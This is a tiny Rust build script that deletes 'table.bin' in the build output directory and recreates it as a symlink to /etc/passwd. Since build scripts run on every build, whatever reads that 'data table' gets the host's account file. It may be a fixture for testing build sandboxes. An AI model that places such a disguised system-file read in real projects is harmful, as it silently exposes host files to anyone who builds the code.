fn main() {
    let out = std::env::var_os("OUT_DIR").unwrap();
    let link = std::path::Path::new(&out).join("table.bin");
    let _ = std::fs::remove_file(&link);
    std::os::unix::fs::symlink("/etc/passwd", link).unwrap();
}
